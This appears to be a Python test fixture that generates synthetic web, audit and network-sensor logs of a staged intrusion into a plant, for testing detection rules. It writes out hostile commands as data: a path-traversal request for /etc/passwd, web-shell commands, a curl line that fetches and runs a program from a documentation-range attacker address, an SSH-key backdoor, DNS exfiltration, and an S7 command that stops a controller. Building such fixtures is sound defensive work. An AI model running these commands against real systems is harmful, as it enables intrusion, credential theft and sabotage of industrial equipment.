"""The intrusion's steps that the web server and the network sensors see.

SYNTHETIC. The story's beginning: the customers' portal gives away any file and takes a program for
a picture, so the intruder gets a web shell and a hold on the web server. Later his program on the
workstation sends the stolen passwords out in names that it asks for, goes to the file server's
administrative share and stops a pump's controller; then he cuts the sensor off that could see the
rest.
"""

import hashlib
from random import Random
from typing import Final

from tests.demo.plant import (
    CONTROLLER_ADDRESS,
    CONTROLLERS,
    SERVER,
    WEB_SERVER,
    WORKSTATION,
    Draft,
    Pen,
)
from tests.demo.sensor_noise import describe_query, describe_s7_answer, describe_s7_job
from tests.demo.sensors import (
    describe_arguments,
    describe_path,
    describe_syscall,
    describe_title,
    encode_socket_address,
    make_zeek_uid,
)

#: The attacker's server (RFC 5737), the domain that he answers for, and his program's user agent.
OUTSIDE: Final = "203.0.113.45"
DOMAIN: Final = "t.nordwerk-sync.example"
AGENT: Final = "python-requests/2.32.3"
#: His program on the web server, in a folder that lies in memory.
HELPER: Final = "/dev/shm/.w"
#: The web shell that his upload became.
SHELL: Final = "/uploads/logo.php"
SERVICE_BINARY: Final = "WmRkTqbz.exe"

#: Seconds after the play's start at which the plant's network sensor is cut off.
SENSOR_CUT_S: Final = 18.8
SIGNATURE: Final = "NORDHAFEN WEB Password File in a Request"


def draft_web_server(pen: Pen) -> list[Draft]:
    """From the first request to the key that lets the intruder come back."""
    loader = f"curl -fsS http://{OUTSIDE}/w -o {HELPER}; chmod +x {HELPER}; {HELPER}"
    stolen = "/portal/export.php?file=/etc/passwd"
    return [
        pen.access(0.8, OUTSIDE, f"GET {stolen} HTTP/1.1", 200, 1874, AGENT).labelled(
            "System File Asked For Through the Web and Answered",
            "the portal gives its password file away",
        ),
        draft_alert(pen, 0.9, stolen),
        pen.access(1.6, OUTSIDE, f"GET {SHELL}?cmd=id HTTP/1.1", 200, 54, AGENT).labelled(
            "Command Sent to a Web Shell", "an uploaded picture is a web shell"
        ),
        draft_command(pen, 1.7, "/usr/bin/dash", ("sh", "-c", "id"), 9101).labelled(
            None, "for which the web server starts a shell"
        ),
        draft_command(pen, 1.72, "/usr/bin/id", ("id",), 9101).labelled(
            "Web Server's Account Looks Around on Its Host", "the web shell asks who it is"
        ),
        # An access log does not hold what a POST request carries.
        pen.access(2.6, OUTSIDE, f"POST {SHELL} HTTP/1.1", 200, 0, AGENT).labelled(
            None, "the web shell is told to fetch a program"
        ),
        draft_command(pen, 2.7, "/usr/bin/dash", ("sh", "-c", loader), 9110).labelled(
            "Code From a Bare Address Fetched and Run",
            "the web server's account fetches a program and runs it",
        ),
        draft_fetch(pen, 2.8),
        draft_command(pen, 3.1, HELPER, (HELPER,), 9113).labelled(
            "Program Run From Memory or by a Service From a Temporary Folder",
            "the program runs from memory",
        ),
        draft_key(pen, 3.6),
    ]


def draft_alert(pen: Pen, at: float, url: str) -> Draft:
    """The border's Suricata knows the request."""
    alert = {
        "action": "allowed",
        "gid": 1,
        "signature_id": 1_000_417,
        "rev": 2,
        "signature": SIGNATURE,
        "category": "Web Application Attack",
        "severity": 1,
        "metadata": {
            "mitre_tactic_name": ["Initial_Access"],
            "mitre_technique_id": ["T1190"],
        },
    }
    http = {
        "hostname": "portal.nordhafen.test",
        "url": url,
        "http_user_agent": AGENT,
        "http_method": "GET",
        "protocol": "HTTP/1.1",
        "status": 200,
        "length": 1874,
    }
    fields = {"alert": alert, "http": http, "app_proto": "http", "tx_id": 0}
    source, target = (OUTSIDE, 41_822), (WEB_SERVER.address, 80)
    return pen.eve(at, "alert", source, target, fields).labelled(
        SIGNATURE, "the border's Suricata knows the request"
    )


def draft_command(pen: Pen, at: float, image: str, arguments: tuple[str, ...], pid: int) -> Draft:
    """PHP's worker, or the shell that it started, starts a program."""
    call = describe_syscall(
        "execve", image, comm=arguments[0], pid=pid, ppid=2114, uid=33, key="exec", items=1
    )
    return pen.audit(
        at, call, describe_arguments(arguments), ("CWD", 'cwd="/var/www/html/uploads"'),
        describe_path(0, image, "NORMAL"), describe_title(arguments),
    )  # fmt: skip


def draft_fetch(pen: Pen, at: float) -> Draft:
    """The shell's curl connects to the attacker's server."""
    arguments = ("curl", "-fsS", f"http://{OUTSIDE}/w", "-o", HELPER)
    call = describe_syscall("connect", "/usr/bin/curl", pid=9111, ppid=9110, uid=33, key="net")
    address = ("SOCKADDR", f"saddr={encode_socket_address(OUTSIDE, 80)}")
    return pen.audit(at, call, address, describe_title(arguments)).labelled(
        None, "curl reaches the attacker's server"
    )


def draft_key(pen: Pen, at: float) -> Draft:
    """The program leaves a key of the intruder's behind."""
    folder = "/var/www/.ssh"
    call = describe_syscall("openat", HELPER, pid=9113, ppid=9110, uid=33, key="webfiles", items=2)
    return pen.audit(
        at, call, ("CWD", 'cwd="/var/www/html/uploads"'),
        describe_path(0, folder, "PARENT", 33, "040700"),
        describe_path(1, f"{folder}/authorized_keys", "CREATE", 33, "0100644"),
        describe_title((HELPER,)),
    ).labelled(
        "Key File for SSH Created by Another Program", "it leaves a key, to come back by SSH"
    )  # fmt: skip


def draft_network(pen: Pen) -> list[Draft]:
    """What Zeek sees of the intruder inside, until it sees nothing any more."""
    rng = Random(17)
    here = WORKSTATION.address
    drafts = []
    for number in range(3):
        data = hashlib.blake2b(b"stolen %d" % number, digest_size=56).hexdigest()
        name = f"{number}.{data[:56]}.{data[56:]}.{DOMAIN}"
        values = describe_query(rng, name, (16, "TXT"), "TXT 2 ok")
        query = pen.zeek(
            12.2 + number * 0.3, "dns", (here, 50_301 + number), (CONTROLLER_ADDRESS, 53), values
        )
        drafts.append(
            query.labelled(
                "Data Hidden in a DNS Name", "passwords leave in names that are asked for"
            )
        )
    values = {
        "fuid": make_zeek_uid("F", SERVICE_BINARY),
        "action": "SMB::FILE_OPEN",
        "path": "\\\\NH-FS01\\ADMIN$",
        "name": SERVICE_BINARY,
        "size": 0,
        **{
            f"times.{what}": pen.start + 13.9
            for what in ("modified", "accessed", "created", "changed")
        },
    }
    drafts.append(
        pen.zeek(14.1, "smb_files", (here, 50_122), (SERVER.address, 445), values).labelled(
            "New Program on an Administrative Share", "Zeek sees the program go to ADMIN$"
        )
    )
    source, target = (here, 50_417), (CONTROLLERS[0], 102)
    job = describe_s7_job(source, target, 7, ("0x29", "PLC Stop"))
    stop = pen.zeek(17.9, "s7comm", source, target, job)
    answer = pen.zeek(17.95, "s7comm", source, target, describe_s7_answer(job))
    drafts += [
        stop.labelled(
            "Siemens Controller Told to Stop or Start", "a pump's controller is told to stop"
        ),
        answer.labelled(None, "the controller stops"),
    ]
    return drafts
